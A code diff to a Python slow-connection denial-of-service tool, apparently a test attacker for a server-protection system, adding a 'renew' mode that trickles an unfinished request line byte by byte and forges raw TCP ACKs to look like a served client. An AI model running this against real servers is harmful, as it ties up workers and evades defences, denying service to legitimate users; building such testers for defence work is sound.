@@ -13,6 +13,12 @@ real servers' workers the ways the scoring does not want:
                from a raw socket reading this namespace's incoming segments (its own traffic).
   idle-hold    a complete request, its response read, then the keep-alive connection held idle
                with one byte (CRLF, which servers skip between requests) every --interval-s
+  renew        a complete request, its response read, then every --interval-s one byte of a next
+               request head it never finishes (the server waits for the rest) and, as slow-forged
+               does, a raw ACK a further 1000 bytes past what the server really sent: to the
+               director it is a client being served that is never idle and never waits long for
+               an answer (docs/DEFENSE.md §3); only the server's side (sluice-agent) shows it sent
+               nothing
   header-churn a partial request head, then silence for --interval-s (jittered +-30%), then a FIN,
                and at once the next connection: every head dropped before the director's idle
                step or stall grace can sink it, the worker held by a stream of fresh connections
@@ -42,6 +48,7 @@ import sys
 from rawtcp import raw_sender, segment
 
 TCP_USER_TIMEOUT = getattr(socket, "TCP_USER_TIMEOUT", 18)
+RENEW_HEAD = b"GET /"
 
 
 class Sniffer:
@@ -83,7 +90,7 @@ async def main() -> int:
     ap.add_argument("--port", type=int, default=80)
     ap.add_argument("--addrs", required=True)
     ap.add_argument("--per", type=int, default=4)
-    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold", "header-churn", "slow-read"), required=True)
+    ap.add_argument("--mode", choices=("slow-header", "slow-forged", "idle-hold", "renew", "header-churn", "slow-read"), required=True)
     ap.add_argument("--read-bytes", type=int, default=64)
     ap.add_argument("--interval-s", type=float, default=3.0)
     ap.add_argument("--user-timeout-ms", type=int, default=4000)
@@ -98,7 +105,7 @@ async def main() -> int:
 
     sniffer = None
     raw = None
-    if args.mode == "slow-forged":
+    if args.mode in ("slow-forged", "renew"):
         sniffer = Sniffer(args.host, args.port)
         loop.add_reader(sniffer.sock.fileno(), sniffer.readable)
         raw = raw_sender()
@@ -166,14 +173,14 @@ async def main() -> int:
                 lport = sock.getsockname()[1]
                 key = (socket.inet_aton(addr), lport)
                 seq_no += 1
-                if args.mode == "idle-hold":
+                if args.mode in ("idle-hold", "renew"):
                     writer.write(b"GET /?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % seq_no)
                     await writer.drain()
                     head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10.0)
                     m = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                     if m:
                         await asyncio.wait_for(reader.readexactly(int(m[0].split(b":")[1])), 10.0)
-                    trickle = b"\r\n"
+                    trickle = b"\r\n" if args.mode == "idle-hold" else None
                 else:
                     writer.write(b"GET /?bot=%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n" % seq_no)
                     await writer.drain()
@@ -191,15 +198,23 @@ async def main() -> int:
                 forged = 0
                 while not stopping.is_set():
                     # Wait out the interval, noticing the server closing (or an RST) meanwhile.
+                    # A renewing bot renews at once after its response (which may have waited long
+                    # for a worker), then every interval.
+                    wait = 0.05 if args.mode == "renew" and k == 0 else jitter()
                     try:
-                        data = await asyncio.wait_for(reader.read(4096), jitter())
+                        data = await asyncio.wait_for(reader.read(4096), wait)
                         if data == b"":
                             break
                         continue
                     except asyncio.TimeoutError:
                         pass
                     k += 1
-                    writer.write(trickle if trickle is not None else b"X-a%d: %d\r\n" % (k, k))
+                    if args.mode == "renew":
+                        # A request line a byte at a time, whose path never ends: a parser that
+                        # checks the method as it reads (Node's llhttp) waits for the rest.
+                        writer.write(RENEW_HEAD[k - 1 : k] or b"a")
+                    else:
+                        writer.write(trickle if trickle is not None else b"X-a%d: %d\r\n" % (k, k))
                     await writer.drain()
                     if raw is not None:
                         # The server's ACK of the line tells both numbers; then the forged ACK.
